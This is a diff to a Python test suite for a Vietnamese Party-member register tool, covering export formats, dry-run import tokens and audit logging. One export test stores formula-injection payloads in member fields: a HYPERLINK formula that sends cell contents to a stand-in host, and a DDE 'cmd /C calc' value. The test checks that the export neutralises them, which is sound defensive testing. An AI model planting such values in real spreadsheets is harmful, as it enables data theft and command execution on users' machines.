@@ -120,9 +120,10 @@ def help_and_exit_codes():
     text = help_of("user", "add")
     assert "--role ROLE --org ORG" in text, text
     assert "admin, office, inspection, secretary, member, viewer" in text
-    assert "--format csv|json" in help_of("export", "members")
+    assert "--format csv|xlsx|pdf|json" in help_of("export", "members")
     assert "--dry-run" in help_of("import", "members")
     assert "--accept-identity" in help_of("import", "members")
+    assert "--token" in help_of("import", "members")
     assert "--listen ADDR:PORT" in help_of("serve")
 
     fail(chibo(), 2)
@@ -212,9 +213,12 @@ def demo_is_deterministic():
     for db, seed in ((a, "3"), (b, "3"), (c, "4")):
         ok(chibo("init", db=db))
         ok(chibo("demo", "--seed", seed, db=db))
-    ea = strip_volatile(ok(chibo("export", "members", db=a)).out)
-    eb = strip_volatile(ok(chibo("export", "members", db=b)).out)
-    ec = strip_volatile(ok(chibo("export", "members", db=c)).out)
+    ea = strip_volatile(ok(chibo("export", "members", "--headers", "keys",
+                                   db=a)).out)
+    eb = strip_volatile(ok(chibo("export", "members", "--headers", "keys",
+                                   db=b)).out)
+    ec = strip_volatile(ok(chibo("export", "members", "--headers", "keys",
+                                   db=c)).out)
     assert ea == eb
     assert ea != ec
 
@@ -511,6 +515,55 @@ def export_import_round_trip():
     assert js_out and all(m["org_code"] == "CB-VP-1" for m in js_out)
 
 
+@test
+def export_formats_import_back():
+    """Vietnamese CSV headers by default, keys on request, Excel and PDF
+    with -o; CSV and Excel import back unchanged, formula cells too."""
+    db = demo_db("exp_fmt", "7")
+    formula = ['--hometown', '=HYPERLINK("http://x"&A1,"bấm")',
+               '--birthplace', "+1+cmd|' /C calc'!A0"]
+    args = [a for a in GOOD]
+    args[args.index("--citizen-id") + 1] = "001190054321"
+    mid = ok(chibo("member", "add", *args, *formula, db=db)).out.split()[2]
+    before = js(chibo("member", "show", mid, "--json", db=db))
+    help_text = ok(chibo("export", "members", "--help")).out
+    assert "--headers labels|keys" in help_text and \
+        "-o|--output FILE" in help_text
+    for name, extra in (("vi.csv", []), ("keys.csv", ["--headers", "keys"]),
+                        ("list.xlsx", ["--format", "xlsx"])):
+        path = os.path.join(TMP, f"fmt-{BACKEND}-{name}")
+        ok(chibo("export", "members", *extra, "-o", path, db=db))
+        with open(path, "rb") as f:
+            data = f.read()
+        if name == "vi.csv":
+            head = data.decode("utf-8-sig").splitlines()[0]
+            assert head.startswith("Mã số,Họ và tên,Giới tính,Ngày sinh,"), \
+                head
+            assert '"\'=HYPERLINK(""http://x""&A1,""bấm"")"' in \
+                data.decode(), "formula not quoted"
+        elif name == "keys.csv":
+            assert data.decode("utf-8-sig").startswith("id,full_name,")
+        else:
+            assert data[:2] == b"PK"
+        r = ok(chibo("import", "members", path, "--dry-run", db=db,
+                     lang="en"))
+        assert "501 rows" in r.out and \
+            "0 created, 0 updated, 501 unchanged" in r.out, (name, r)
+        ok(chibo("import", "members", path, db=db, lang="en"))
+        now = js(chibo("member", "show", mid, "--json", db=db))
+        assert now == before, (name, now)
+    # PDF: the Party header and the cell's members.
+    path = os.path.join(TMP, f"fmt-{BACKEND}.pdf")
+    ok(chibo("export", "members", "--format", "pdf", "--org", "CB-VP-1",
+             "-o", path, db=db))
+    text = subprocess.run(["pdftotext", "-layout", path, "-"], check=True,
+                          capture_output=True).stdout.decode()
+    assert "ĐẢNG CỘNG SẢN VIỆT NAM" in text and \
+        "DANH SÁCH ĐẢNG VIÊN" in text and "Trang 1/" in text, text[:600]
+    assert "Nguyễn Thị Minh Khai" in text, text
+    fail(chibo("export", "members", "--format", "docx", db=db), 2)
+    fail(chibo("export", "members", "--headers", "vi", db=db), 2)
+
 HEADER_VI = ("STT;Họ và tên;Giới tính;Ngày sinh;Dân tộc;Số CCCD;"
              "Ngày vào Đảng;Ngày chính thức;Loại đảng viên;Mã chi bộ")
 
@@ -639,7 +692,8 @@ def import_identity_conflict_accept():
     for extra in ([], ["--dry-run"]):
         r = fail(chibo("import", "members", path, *extra, db=db))
         assert "dòng 2, Số CCCD" in r.err and "Nguyễn Văn Dũng" in r.err \
-            and "CB-VP-1" in r.err and "full_name, birth_date" in r.err, r
+            and "CB-VP-1" in r.err and "khác: Họ và tên, Ngày sinh" \
+            in r.err and "full_name" not in r.err, r
     after = js(chibo("member", "show", str(before["id"]), "--json", db=db))
     assert after == before, (after, before)
     # Row 3 has no conflict: refused, nothing written.
@@ -657,6 +711,89 @@ def import_identity_conflict_accept():
     assert after["full_name"] == "Trịnh Văn Khác" and \
         after["birth_date"] == "1985-04-13" and \
         after["version"] > before["version"], after
+
+
+def token_of(r):
+    """The token a --dry-run printed."""
+    lines = [x for x in r.out.splitlines() if x.startswith("chibo: token: ")]
+    assert len(lines) == 1, r
+    return lines[0].split(": ", 2)[2]
+
+
+@test
+def import_check_token_and_preview():
+    """--dry-run prints every update field by field (labels, dd/mm/yyyy)
+    and the check's token; --token applies only that file with those
+    options, while the register is as the check found it."""
+    db = demo_db("imp_token")
+    path = os.path.join(TMP, f"tok-{BACKEND}.csv")
+    with open(path, "w", encoding="utf-8") as f:
+        f.write("\n".join([HEADER_VI] + vi_rows()) + "\n")
+    ok(chibo("import", "members", path, db=db))
+    stored = js(chibo("member", "list", "--json", "--q", "001085001111",
+                      db=db))["items"][0]
+    rows = vi_rows()
+    rows[0] = rows[0].replace("03/02/2010;03/02/2011", "04/02/2010;04/02/2011")
+    with open(path, "w", encoding="utf-8") as f:
+        f.write("\n".join([HEADER_VI] + rows) + "\n")
+    r = ok(chibo("import", "members", path, "--dry-run", db=db))
+    assert f"Dòng 2: #{stored['id']} Nguyễn Văn Dũng, " in r.out, r
+    assert "(CB-VP-1)" in r.out, r
+    assert "    Ngày vào Đảng (admitted_on): 03/02/2010 -> 04/02/2010" \
+        in r.out, r
+    assert "    Ngày chính thức (official_on): 03/02/2011 -> 04/02/2011" \
+        in r.out, r
+    assert "1 cập nhật, 2 không đổi" in r.out, r
+    tok = token_of(r)
+    r = ok(chibo("import", "members", path, "--dry-run", db=db, lang="en"))
+    assert "    Admission date (admitted_on): 03/02/2010 -> 04/02/2010" \
+        in r.out and token_of(r) == tok, r
+    before = js(chibo("member", "show", str(stored["id"]), "--json", db=db))
+    # Another file, other options, a bad token: refused, nothing written.
+    other = path + ".other.csv"
+    with open(other, "w", encoding="utf-8") as f:
+        f.write("\n".join([HEADER_VI] + rows[:2]) + "\n")
+    for args in ([other, "--token", tok],
+                 [path, "--token", tok, "--accept-identity", "2"],
+                 [path, "--token", tok[:-1] + ("A" if tok[-1] != "A"
+                                               else "B")]):
+        r = fail(chibo("import", "members", *args, db=db))
+        assert "Mã kiểm tra không khớp" in r.err, r
+    fail(chibo("import", "members", path, "--token", "", db=db), 2)
+    assert js(chibo("member", "show", str(stored["id"]), "--json",
+                    db=db)) == before
+    # A write after the check: stale, nothing written.
+    ok(chibo("member", "edit", str(stored["id"]), "--phone", "0911222333",
+             db=db))
+    mid = js(chibo("member", "show", str(stored["id"]), "--json", db=db))
+    r = fail(chibo("import", "members", path, "--token", tok, db=db,
+                   lang="en"))
+    assert "The register changed after the check" in r.err, r
+    assert js(chibo("member", "show", str(stored["id"]), "--json",
+                    db=db)) == mid
+    # Checked again and applied with its token.
+    tok = token_of(ok(chibo("import", "members", path, "--dry-run", db=db)))
+    r = ok(chibo("import", "members", path, "--token", tok, db=db,
+                 lang="en"))
+    assert "1 updated, 2 unchanged" in r.out, r
+    after = js(chibo("member", "show", str(stored["id"]), "--json", db=db))
+    assert after["admitted_on"] == "2010-02-04" and \
+        after["phone"] == "0911222333", after
+    # One audit entry for the import, naming the file; its member entry
+    # names the batch.
+    e = js(chibo("audit", "list", "--action", "member.import", "--json",
+                 "--limit", "1", db=db))[0]
+    import hashlib
+    with open(path, "rb") as f:
+        sha = hashlib.sha256(f.read()).hexdigest()
+    d = e["detail"]
+    assert e["object_type"] == "batch" and d["file_name"] == \
+        os.path.basename(path) and d["file_sha256"] == sha and \
+        d["rows"] == 3 and d["created"] == 0 and d["updated"] == 1, e
+    u = js(chibo("audit", "list", "--action", "member.update", "--member",
+                 str(stored["id"]), "--json", "--limit", "1", db=db))[0]
+    assert u["detail"] == {"import_batch": d["batch_id"]}, u
+    ok(chibo("audit", "verify", db=db))
 
 
 # ------------------------------------------------------------------ rules
